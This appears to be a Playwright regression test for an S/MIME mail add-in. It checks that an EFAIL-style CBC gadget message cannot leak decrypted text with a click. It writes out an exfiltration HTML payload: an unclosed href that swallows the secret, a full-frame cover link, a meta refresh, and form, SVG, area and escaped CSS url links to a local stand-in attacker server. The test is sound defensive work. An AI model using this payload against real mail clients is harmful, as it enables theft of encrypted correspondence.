// EFAIL by one click (ARCHITECTURE.md rules 7 and 11; issue 12, finding 7), in real Chromium against the workbench.
// An attacker who captured an AES-CBC EnvelopedData message can, with CBC gadgets, make the decrypted HTML start
// with their own block: an `<a href="http://attacker/?` that is never closed, so the secret text that follows
// becomes part of the URL, and an absolutely positioned link that covers the whole content frame. One click
// anywhere would send the secret. Here such a message (built with Signet's own core, AES-256-CBC, unsigned,
// encrypted to the workbench's mailbox owner) is opened in the pane; the test clicks across the whole frame,
// with each mouse button and modifier, tabs through it pressing Enter and Space, and asserts that no request
// reached a real listening server and that the page made no request at all. A control shows the harness does
// see a leak: the same HTML, AES-GCM (integrity-protected, so links stay live), does reach the server on a click.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { cryptoProvider } from '../../src/core/crypto.js';
import { utf8 } from '../../src/core/bytes.js';
import { protectMessage, type Cipher } from '../../src/core/smime/protect.js';
import { loadCertificates } from '../../src/keys/identity-file.js';
import { workbenchPaths } from '../../workbench/samples.js';
import { FAILED_CHECK_HEADING, INERT_CONTENT_SANDBOX } from '../../src/taskpane/sandbox.js';
import { PACKAGE_ROOT, buildForBrowser, openWorkbench, requireChromium, type Workbench } from '../helpers/workbench.js';

let wb: Workbench;
let dist: string;
let listener: Server;
let port = 0;
const hits: string[] = [];
/** Every request of the browser context, with whether it came from the message content's frame. */
const requests: { url: string; fromContent: boolean }[] = [];
const SECRET = 'SECRET merger closes Friday, wire code 4711';

function gadgetHtml(): string {
  const exfil = `http://127.0.0.1:${port}`;
  // What the attacker's CBC gadget block puts in front of the victim's plaintext: an unclosed href that swallows
  // the secret, a link covering everything, and every other way to navigate or load on a click.
  return [
    '<html><head><base href="' + exfil + '/base/"><meta http-equiv="refresh" content="1;url=' + exfil + '/refresh">',
    '<style>a{cursor:pointer} .cover{position:absolute;top:0;left:0;width:100%;height:100%;display:block;z-index:2147483647}</style></head><body>',
    `<a class="cover" style="position:fixed;inset:0;display:block;z-index:2147483647" href="${exfil}/?`,
    `${SECRET}`,
    '">Invoice</a>',
    `<p><a href="${exfil}/second?${encodeURIComponent(SECRET)}" target="_blank">Open invoice</a></p>`,
    `<img src="data:image/png;base64,iVBORw0KGgo=" usemap="#m" width="300" height="100"><map name="m"><area shape="rect" coords="0,0,300,100" href="${exfil}/area"></map>`,
    `<svg width="300" height="60"><a href="${exfil}/svg"><rect width="300" height="60" fill="#ccc"></rect></a></svg>`,
    `<form action="${exfil}/form" method="get"><input name="q" value="${SECRET}"><button>Send</button><input type="image" src="${exfil}/input-image"></form>`,
    `<div style="background:u\\72 l(${exfil}/css)">styled</div>`,
    '<p>' + 'Body text. '.repeat(400) + '</p>',
    '</body></html>',
  ].join('\n');
}

async function gadgetMessage(cipher: Cipher): Promise<Uint8Array> {
  const owner = loadCertificates(new Uint8Array(readFileSync(join(workbenchPaths(PACKAGE_ROOT).pkiDir, 'owner.pem'))))[0]!;
  const plain = [
    'From: Alice Example <alice@example.org>',
    'To: Dana Reader <dana@example.org>',
    `Subject: EFAIL gadget ${cipher}`,
    'Date: Mon, 07 Dec 2026 09:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    gadgetHtml(),
  ].join('\r\n');
  return protectMessage(utf8(plain), { encrypt: { recipients: [owner], cipher }, provider: cryptoProvider() });
}

const pane = () => wb.page.frameLocator('#taskpane');

async function openFile(page: Page, name: string, bytes: Uint8Array): Promise<void> {
  await page.frameLocator('#taskpane').locator('[data-testid=file-input]').setInputFiles({ name, mimeType: 'message/rfc822', buffer: Buffer.from(bytes) });
  await page.frameLocator('#taskpane').locator(`[data-testid=badge][data-subject="${name}"]`).waitFor({ timeout: 30_000 });
  await page.frameLocator('#taskpane').frameLocator('[data-testid=content-frame]').locator('body').waitFor();
}

before(async () => {
  requireChromium();
  listener = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'text/plain' }).end('got it');
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  const a = listener.address();
  port = typeof a === 'object' && a ? a.port : 0;
  dist = buildForBrowser();
  wb = await openWorkbench(dist);
  wb.context.on('request', (r) => {
    let fromContent = false;
    try {
      fromContent = r.frame().parentFrame()?.url().includes('taskpane.html') === true;
    } catch {
      fromContent = true; // a request with no frame (a popup's navigation): count it as the content's
    }
    requests.push({ url: r.url(), fromContent });
  });
  await wb.page.goto(wb.server.url);
  await wb.page.locator('#message-list button').first().waitFor();
});

after(async () => {
  await wb?.close();
  if (dist) rmSync(dist, { recursive: true, force: true });
  await new Promise((r) => listener?.close(r));
});

test('CBC gadget message: clicks and keys anywhere in the content send nothing anywhere', async () => {
  const bytes = await gadgetMessage('aes-256-cbc');
  await openFile(wb.page, 'efail-cbc.eml', bytes);
  const frame = pane().locator('[data-testid=content-frame]');
  assert.equal(await frame.getAttribute('data-links'), 'inert');
  assert.equal(await frame.getAttribute('sandbox'), INERT_CONTENT_SANDBOX);
  assert.match((await pane().locator('[data-testid=not-protected-note]').textContent()) ?? '', /not protected against changes/);
  const content = pane().frameLocator('[data-testid=content-frame]');
  // The secret is there, as text: the reader sees what the link would have sent.
  assert.match((await content.locator('body').textContent()) ?? '', /SECRET merger closes Friday/);
  assert.equal(await content.locator('a[href], area, form, button, input, base, [href]').count(), 0);
  await wb.page.waitForTimeout(2000); // past the meta refresh's 1 second
  const popups: string[] = [];
  wb.context.on('page', (p) => popups.push(p.url()));
  const before = requests.length;

  const box = (await frame.boundingBox())!;
  assert.ok(box.width > 100 && box.height > 100, 'the frame is on screen');
  const clicks: [number, number][] = [];
  const N = 7; // a 7 × 7 grid over the whole frame
  for (let i = 0; i < N; i++) for (let j = 0; j < N; j++) clicks.push([box.x + ((i + 0.5) * box.width) / N, box.y + ((j + 0.5) * box.height) / N]);
  const started = Date.now();
  for (const [x, y] of clicks) await wb.page.mouse.click(x, y);
  const centre: [number, number] = [box.x + box.width / 2, box.y + box.height / 2];
  await wb.page.mouse.click(...centre, { button: 'middle' });
  for (const key of ['Control', 'Shift', 'Alt']) {
    await wb.page.keyboard.down(key);
    await wb.page.mouse.click(...centre);
    await wb.page.keyboard.up(key);
  }
  await wb.page.mouse.dblclick(...centre);
  // Keyboard: into the frame and through everything focusable in it, pressing Enter and Space on each.
  await frame.focus();
  for (let i = 0; i < 10; i++) {
    await wb.page.keyboard.press('Enter');
    await wb.page.keyboard.press('Space');
    await wb.page.keyboard.press('Tab');
  }
  await wb.page.waitForTimeout(1500);
  console.log(`# ${clicks.length + 5} clicks and 30 key presses in ${Date.now() - started} ms`);

  assert.deepEqual(hits, [], `requests reached the listening server: ${hits.join(', ')}`);
  // The workbench host keeps polling its own mailbox API; nothing else may have been requested.
  const during = requests.slice(before);
  assert.deepEqual(during.filter((r) => r.fromContent), [], 'the content frame made no request');
  assert.deepEqual(during.filter((r) => !r.url.startsWith(new URL("workbench/api/mailbox", wb.server.url).href)).map((r) => r.url), [], 'the page made no request while clicking');
  assert.deepEqual(popups, [], 'no window was opened');
  assert.ok(requests.every((r) => !r.url.includes(`127.0.0.1:${port}`)));
});

test('the link is opened only from the pane chrome, after a confirmation showing the whole URL', async () => {
  const links = pane().locator('[data-testid=inert-links]');
  await links.locator('summary').click();
  const items = pane().locator('[data-testid=inert-link]');
  assert.ok((await items.count()) >= 2);
  const first = items.first();
  const url = `http://127.0.0.1:${port}/?\n${SECRET}`;
  assert.equal((await first.locator('[data-testid=inert-link-url]').textContent())?.replace(/\s+/g, ' '), url.replace(/\s+/g, ' '));
  await first.locator('[data-testid=link-ask]').click();
  assert.equal((await first.locator('[data-testid=link-confirm-url]').textContent())?.replace(/\s+/g, ' '), url.replace(/\s+/g, ' '));
  mkdirSync(join(PACKAGE_ROOT, 'artifacts', 'content'), { recursive: true });
  await wb.page.locator('#taskpane').screenshot({ path: join(PACKAGE_ROOT, 'artifacts', 'content', 'efail-inert-links.png') });
  await first.locator('[data-testid=link-cancel]').click();
  await wb.page.waitForTimeout(500);
  assert.deepEqual(hits, [], 'cancelling opens nothing');
  assert.equal(await first.locator('[data-testid=link-confirm]').count(), 0);
});

test('control: the same HTML integrity-protected (AES-GCM) keeps live links, and a click does reach the server', async () => {
  const bytes = await gadgetMessage('aes-256-gcm');
  await openFile(wb.page, 'efail-gcm.eml', bytes);
  const frame = pane().locator('[data-testid=content-frame]');
  assert.equal(await frame.getAttribute('data-links'), 'live');
  assert.equal(await pane().locator('[data-testid=content-warning]').count(), 0);
  const box = (await frame.boundingBox())!;
  const popup = wb.context.waitForEvent('page', { timeout: 10_000 });
  await wb.page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
  const opened = await popup;
  await opened.waitForLoadState().catch(() => undefined);
  for (let i = 0; i < 50 && hits.length === 0; i++) await wb.page.waitForTimeout(100);
  assert.ok(hits.length >= 1, 'the harness detects a leak when links are live');
  await opened.close();
  hits.length = 0;
});

test('a failed check frames the content as failed, and its links are inert too', async () => {
  // Mallory's untrusted signature would be a caution; a tampered signed message (invalid) is a danger state.
  const index = JSON.parse(readFileSync(workbenchPaths(PACKAGE_ROOT).index, 'utf8')) as { messages: { id: string; subject: string }[] };
  const m = index.messages.find((x) => x.id === 'tampered')!;
  await wb.page.click(`button[data-id="${m.id}"]`);
  await pane().locator(`[data-testid=badge][data-subject="${m.subject}"]`).waitFor();
  const warning = pane().locator('[data-testid=content-warning]');
  await warning.waitFor();
  assert.equal(await warning.getAttribute('role'), 'region');
  assert.equal((await warning.locator('h3').textContent())?.trim(), FAILED_CHECK_HEADING);
  assert.equal(await warning.locator('[data-testid=content-frame]').getAttribute('data-links'), 'inert');
  assert.equal(hits.length, 0);
});
